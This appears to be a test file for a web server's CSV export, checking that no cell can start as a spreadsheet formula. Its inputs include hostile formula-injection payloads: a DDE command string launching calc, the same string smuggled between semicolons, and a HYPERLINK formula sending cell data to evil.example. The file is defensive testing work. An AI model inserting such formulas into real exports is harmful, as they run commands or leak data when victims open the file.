import fc from 'fast-check';
import { expect, it } from 'vitest';
import { toCsvRow } from '../../../src/web/server/csv.ts';
import { hostileTexts } from '../server/hostile-pages.ts';

const formulaStarts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const texts = [
  ...formulaStarts.flatMap((each) => [each, `${each}1+1`, `${each}=1`, `a${each}b`]),
  `=cmd|'/C calc'!A0`,
  '=HYPERLINK("https://evil.example?x="&A1;"click")',
  `x;=cmd|'/C calc'!A0;y`,
  'x",=1',
  '";=1',
  'two\n=1\r\n-2\r@3',
  ...hostileTexts,
];

/** Parses a line according to RFC 4180 or, if the separator is a semicolon, as some spreadsheets do. */
function parseCells(line: string, separator: ',' | ';'): string[] {
  const cells = [''];
  let isQuoted = false;
  for (let at = 0; at < line.length; at += 1) {
    const character = line.charAt(at);
    const isFirst = cells.at(-1) === '' && line.charAt(at - 1) !== '"';
    if (character === '"' && isFirst && !isQuoted) isQuoted = true;
    else if (character === '"' && isQuoted && line.charAt(at + 1) === '"') {
      cells.push(`${cells.pop()}"`);
      at += 1;
    } else if (character === '"' && isQuoted) isQuoted = false;
    else if (!isQuoted && (character === separator || /[\r\n]/.test(character))) cells.push('');
    else cells.push((cells.pop() ?? '') + character);
  }
  return cells;
}

const isFormula = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell);

it('no cell in a CSV file starts with a formula, whichever separator the spreadsheet expects', () => {
  const expectSafeCell = (text: string) => {
    const line = toCsvRow(['1', text, 'end']);
    for (const separator of [',', ';'] as const)
      expect([text, parseCells(line, separator).filter(isFormula)]).toEqual([text, []]);
  };
  for (const text of texts) expectSafeCell(text);
  const pieces = fc.constantFrom(...formulaStarts, ';', ',', '"', "'", ' ', 'a', '1', '\r\n');
  fc.assert(fc.property(fc.array(pieces, { maxLength: 8 }), (each) => expectSafeCell(each.join(''))));
});

it('a CSV export only adds apostrophes to cells that could be formulas, and changes no other cells', () => {
  for (const text of texts) {
    const [first, second = '', ...rest] = parseCells(toCsvRow(['1', text, 'end']), ',');
    expect([first, rest]).toEqual(['1', ['end', '', '']]);
    expect(second.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
  }
  expect(toCsvRow(['a; b', "it's", 'a-b', 'Say "x"'])).toBe('"a; b","it\'s","a-b","Say ""x"""\r\n');
});
